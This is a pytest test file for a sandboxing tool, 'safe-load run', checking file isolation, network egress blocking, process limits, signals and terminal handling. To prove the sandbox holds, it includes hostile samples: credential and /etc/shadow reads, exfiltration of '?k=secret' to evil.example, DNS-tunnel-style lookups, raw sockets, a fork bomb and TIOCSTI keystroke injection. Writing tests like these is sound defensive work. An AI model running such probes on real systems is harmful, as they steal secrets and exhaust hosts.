"""`safe-load run`: any program in a room, on the real kernel.

Every program here is real, and so are the room, the streams and the signals. The only listener outside
is one of the test's own, on this machine's loopback, where no tool may reach it by name.
"""

from __future__ import annotations

import json
import os
import pty
import signal
import subprocess
import sys
import threading
import time
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
from safe_load import cli
from safe_load.tools.ahead import Ahead

if TYPE_CHECKING:
    from collections.abc import Iterator

COMMAND = (sys.executable, "-m", "safe_load")


class Ran:
    """How one run ended. findings: id -> details; log: its lines."""

    def __init__(self, done: subprocess.CompletedProcess[bytes], folder: Path) -> None:
        self.code, self.out, self.err = done.returncode, done.stdout.decode(), done.stderr.decode()
        report = folder / "report.json"
        self.report: dict[str, Any] = json.loads(report.read_text()) if report.exists() else {}
        log = folder / "log.jsonl"
        self.log = (
            [json.loads(line) for line in log.read_text().splitlines()] if log.exists() else []
        )

    def findings(self, ident: str) -> list[str]:
        return [each["detail"] for each in self.report["findings"] if each["id"] == ident]


def run(
    folder: Path, *arguments: str, given: bytes = b"", env: dict[str, str] | None = None
) -> Ran:
    (folder / "log.jsonl").unlink(missing_ok=True)
    outputs = ("--report", f"json={folder}/report.json", "--log", f"{folder}/log.jsonl")
    done = subprocess.run(
        [*COMMAND, "run", *outputs, *arguments],
        input=given,
        capture_output=True,
        check=False,
        cwd=folder,
        timeout=60,
        env={**os.environ, **(env or {})},
    )
    return Ran(done, folder)


def tool(folder: Path, text: str) -> tuple[str, str, str]:
    """The command of a tool of this text, in a folder of its own."""
    own = folder / "tool"
    own.mkdir(exist_ok=True)
    (own / "tool.py").write_text(text)
    return "--", sys.executable, str(own / "tool.py")


@pytest.fixture(scope="module")
def server() -> Iterator[tuple[str, list[str]]]:
    """(address:port of a server on this machine's loopback, the paths that it was asked for)."""
    asked: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Content-Length", "5")
            self.end_headers()
            self.wfile.write(b"hello")

        def log_message(self, *_: object) -> None:
            pass

    listening = HTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=listening.serve_forever, daemon=True)
    thread.start()
    yield f"127.0.0.1:{listening.server_port}", asked
    listening.shutdown()
    listening.server_close()


def test_streams_exit_code_and_folder_are_the_commands_own(tmp_path: Path) -> None:
    text = (
        "import os, sys\n"
        "print(sys.stdin.read().upper(), sys.argv[1:], os.getcwd() == os.path.dirname(os.path.abspath(__file__)))\n"
        "print('said', file=sys.stderr)\nsys.exit(7)\n"
    )
    ran = run(tmp_path, *tool(tmp_path, text), "--report", "a b", given=b"in")
    assert (ran.code, ran.out) == (7, "IN ['--report', 'a b'] True\n")
    assert ran.err == "said\n"
    assert (ran.report["outcome"], ran.report["verdict"]) == ("ok", "clean")
    assert "The command exited with status 7" in ran.report["notes"]
    assert ran.report["sandbox"]["profile"] == "tool"


def test_programs_may_be_started_and_are_recorded(tmp_path: Path) -> None:
    ran = run(tmp_path, "--", "sh", "-c", "env echo one; ls /usr/bin >/dev/null; exit 3")
    assert (ran.code, ran.out) == (3, "one\n")
    assert ["env", "echo", "one"] in [each["argv"] for each in ran.report["processes"]]
    assert not ran.report["findings"]


def test_secrets_are_decoys_and_nothing_else_of_the_host_is_there(tmp_path: Path) -> None:
    (tmp_path / "private.txt").write_text("private")
    text = (
        "import os, pathlib\n"
        "print(os.path.exists('..' + '/private.txt'), sorted(os.listdir('/home')), os.environ.get('REAL'))\n"
        "print(len(pathlib.Path.home().joinpath('.aws/credentials').read_text()) > 50)\n"
        f"print(os.path.exists({str(tmp_path / 'private.txt')!r}), os.path.exists('/etc/shadow'))\n"
    )
    ran = run(tmp_path, *tool(tmp_path, text), env={"REAL": "value"})
    # The interpreter's own path is there too, and it may lie in somebody's home.
    homes = {place.parts[2] for place in (Path(sys.prefix), tmp_path) if place.parts[1] == "home"}
    assert ran.out == f"False {sorted({'ubuntu'} | homes)} None\nTrue\nFalse False\n"
    assert ran.code == 1
    assert any("AWS credentials" in each for each in ran.findings("SL301"))
    assert "rejected" in ran.err


def test_what_is_granted_is_there_and_no_more(tmp_path: Path) -> None:
    for name in ("shown", "written"):
        (tmp_path / name).mkdir()
        (tmp_path / name / "file").write_text(name)
    text = (
        "import os, sys\n"
        "shown, written = sys.argv[1:]\n"
        "print(open(shown + '/file').read(), os.environ['REAL'])\n"
        "open(written + '/new', 'w').write('by the tool')\n"
        "try:\n    open(shown + '/new', 'w')\nexcept OSError as error:\n    print('refused')\n"
    )
    folders = str(tmp_path / "shown"), str(tmp_path / "written")
    grants = ("--read", folders[0], "--write", folders[1], "--env", "REAL")
    ran = run(tmp_path, *grants, *tool(tmp_path, text), *folders, env={"REAL": "a-secret"})
    assert (ran.code, ran.out) == (0, "shown a-secret\nrefused\n")
    assert (tmp_path / "written" / "new").read_text() == "by the tool"
    assert (tmp_path / "written" / "new").stat().st_uid == os.getuid()
    assert not (tmp_path / "shown" / "new").exists()
    assert "a-secret" not in json.dumps(ran.report)


_ASK = (
    "import sys, urllib.request, urllib.error\n"
    "try:\n    print(urllib.request.urlopen(sys.argv[1], timeout=20).read())\n"
    "except urllib.error.HTTPError as error:\n    print(error.code, error.read().decode())\n"
    "except OSError as error:\n    print(error)\n"
)


def test_what_no_rule_allows_reads_as_refused_and_stays(tmp_path: Path) -> None:
    ran = run(tmp_path, *tool(tmp_path, _ASK), "http://evil.example/?k=secret")
    assert ran.out.startswith("403 safe-load: this connection was refused")
    assert "refused: " in ran.err
    assert "evil.example:80: no --allow rule names it" in ran.err
    assert ran.code == 1
    (line,) = [each for each in ran.log if each["protocol"] == "tcp"]
    assert (line["host"], line["port"], line["decision"], line["rule"]) == (
        "evil.example", 80, "refused", None,
    )  # fmt: skip
    assert line["process"].startswith("python")
    assert line["bytes_sent"] > 20
    assert any("k=secret" in each["payload_preview"] for each in ran.report["egress"])
    tls = run(tmp_path, *tool(tmp_path, _ASK), "https://evil.example/")
    assert "access denied" in tls.out.lower()
    assert [each["tls_name"] for each in tls.log if each["protocol"] == "tcp"] == ["evil.example"]


def test_an_address_that_is_allowed_by_its_number_is_reached_and_counted(
    tmp_path: Path, server: tuple[str, list[str]]
) -> None:
    place, asked = server
    ran = run(
        tmp_path, "--unsafe-allow-private", place, *tool(tmp_path, _ASK), f"http://{place}/allowed"
    )
    assert (ran.code, ran.out) == (0, "b'hello'\n")
    assert "/allowed" in asked
    (line,) = ran.log
    assert (line["decision"], line["rule"], line["address"]) == ("allowed", place, "127.0.0.1")
    assert line["bytes_sent"] > 50
    assert line["bytes_received"] > 50
    (told,) = ran.report["connections"]
    assert (told["bytes_sent"], told["bytes_received"]) == (
        line["bytes_sent"],
        line["bytes_received"],
    )
    assert not ran.report["findings"]


def test_no_rule_leads_to_this_machine(tmp_path: Path, server: tuple[str, list[str]]) -> None:
    place, asked = server
    for rule in (
        place,
        f"localhost:{place.rpartition(':')[2]}",
        "[::1]:80",
        "169.254.169.254:80",
        "10.0.0.1:80",
    ):
        ran = run(tmp_path, "--allow", rule, "--", "true")
        assert ran.code == 2, rule
        assert "--unsafe-allow-private" in ran.err
    ran = run(tmp_path, *tool(tmp_path, _ASK), f"http://{place}/stolen")
    assert ran.out.startswith("403")
    assert "/stolen" not in asked


def test_a_raw_socket_a_look_up_and_udp_lead_nowhere_and_are_named(tmp_path: Path) -> None:
    text = (
        "import socket\n"
        "for kind in ((socket.AF_INET, socket.SOCK_RAW, 1), (socket.AF_PACKET, socket.SOCK_RAW, 0)):\n"
        "    try:\n        socket.socket(*kind)\n    except OSError as error:\n        print('refused')\n"
        "for part in range(3):\n"
        "    try:\n        socket.getaddrinfo(f'part{part}.tunnel.example', 1)\n    except OSError:\n        pass\n"
        "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'datagram', ('203.0.113.9', 9999))\n"
    )
    ran = run(tmp_path, *tool(tmp_path, text))
    assert (ran.code, ran.out) == (1, "refused\nrefused\n")
    assert len(ran.findings("SL203")) == 2
    assert {each["host"] for each in ran.log if each["protocol"] == "dns"} >= {
        f"part{part}.tunnel.example" for part in range(3)
    }
    assert len([each for each in ran.findings("SL202") if "tunnel.example" in each]) == 3
    assert any("203.0.113.9:9999" in each for each in ran.findings("SL201"))


def test_a_process_that_stays_is_killed_and_named(tmp_path: Path) -> None:
    mark = f"{os.getpid()}.25"
    began = time.monotonic()
    ran = run(tmp_path, "--", "sh", "-c", f"(setsid sleep 9{mark} &) ; exit 0")
    assert time.monotonic() - began < 30
    assert ran.code == 1
    assert ran.findings("SL102") == ["The tool ended and left running: sleep. They were killed."]
    assert (
        subprocess.run(
            ["pgrep", "-f", f"sleep 9{mark}"], check=False, capture_output=True
        ).returncode
        == 1
    )


def test_limits_of_time_and_tasks_hold(tmp_path: Path) -> None:
    ran = run(tmp_path, "--timeout", "1s", "--", "sleep", "60")
    assert (ran.code, ran.report["outcome"]) == (5, "limit_hit")
    ran = run(tmp_path, "--timeout", "40s", "--", "sh", "-c", "f() { f | f & }; f; sleep 30")
    assert ran.code == 5
    assert "process limit" in ran.report["outcome_detail"]


def test_signals_reach_the_command(tmp_path: Path) -> None:
    script = "trap 'echo caught; exit 9' USR1; echo ready; while :; do sleep 0.05; done"
    with subprocess.Popen(
        [*COMMAND, "run", "--", "sh", "-c", script], stdout=subprocess.PIPE, cwd=tmp_path
    ) as process:
        assert process.stdout is not None
        assert process.stdout.readline() == b"ready\n"
        process.send_signal(signal.SIGUSR1)
        assert process.stdout.read() == b"caught\n"
    assert process.returncode == 9
    assert run(tmp_path, "--", "sh", "-c", "kill -TERM $$").code == 128 + signal.SIGTERM


def test_a_terminal_is_the_commands_too_and_comes_back_as_it_was(tmp_path: Path) -> None:
    text = (
        "import os, sys, tty\n"
        "assert all(os.isatty(each) for each in (0, 1, 2))\n"
        "tty.setraw(0)\nprint('raw', end='')\n"
        "import fcntl, termios\n"
        "try:\n    fcntl.ioctl(0, termios.TIOCSTI, b'x')\nexcept OSError:\n    print(' no typing')\n"
    )
    main, far = pty.openpty()
    try:
        import termios

        before = termios.tcgetattr(far)
        done = subprocess.run(
            [*COMMAND, "run", *tool(tmp_path, text)],
            stdin=far, stdout=far, stderr=far, cwd=tmp_path, check=False, timeout=60,
        )  # fmt: skip
        assert done.returncode == 0
        assert os.read(main, 100).startswith(b"raw no typing")
        assert termios.tcgetattr(far) == before
    finally:
        os.close(main)
        os.close(far)


def test_a_command_that_cannot_run_says_so_in_one_sentence(tmp_path: Path) -> None:
    for arguments, said in (
        (("--", "no-such-program"), "there is no such program on PATH"),
        (("--", "npx", "-y", "server"), "npm install --ignore-scripts"),
        (("--", "uvx", "server"), "--only-binary :all:"),
        (("--env", "NOT_SET", "--", "true"), "there is no such variable"),
        (("--read", "/no/such", "--", "true"), "there is no such file"),
        (("--write", "/", "--", "true"), "can be granted to nobody"),
        (("--allow", "*.example:443", "--", "true"), "no wildcards"),
        (("--allow", "host.example", "--", "true"), "HOST:PORT is needed"),
        (("--allow", "host.example:0", "--", "true"), "a port from 1 to 65535"),
    ):
        ran = run(tmp_path, *arguments)
        assert ran.code == 2, arguments
        assert said in ran.err
        assert ran.err.count("\n") == 1


def test_no_model_is_opened_by_the_profile_for_tools(tmp_path: Path) -> None:
    (tmp_path / "model.bin").write_bytes(b"\x80\x02N.")
    done = subprocess.run(
        [*COMMAND, "scan", "--profile", "tool", str(tmp_path / "model.bin")],
        capture_output=True, check=False,
    )  # fmt: skip
    assert done.returncode == 2
    assert b"lets programs run" in done.stderr


@pytest.mark.anyone
@pytest.mark.parametrize(
    ("words", "starts"),
    [
        (["run", "--", "ls", "--help"], 1),
        (["run", "ls"], 1),
        (["mcp", "wrap", "--env", "A", "--", "x"], 2),
        (["mcp", "inspect", "--", "x"], 0),
        (["run", "--help"], 0),
        (["scan", "run"], 0),
        (["mcp"], 0),
        ([], 0),
    ],
)
def test_a_rooms_interpreter_starts_early_for_tools_alone(words: list[str], starts: int) -> None:
    assert cli._tool_words(words) == starts


@pytest.mark.anyone
def test_an_interpreter_that_was_started_for_nothing_ends() -> None:
    begun = Ahead()
    before = begun.early.process.pid
    begun.close()
    assert begun.early.process.returncode == 1  # it was given no order
    with pytest.raises(ProcessLookupError):
        os.kill(before, 0)
    done = subprocess.run(
        [*COMMAND, "run", "--timeout", "soon", "--", "true"], capture_output=True, check=False
    )
    assert done.returncode == 2
    assert done.stdout == b""
    assert len(done.stderr.splitlines()) == 1
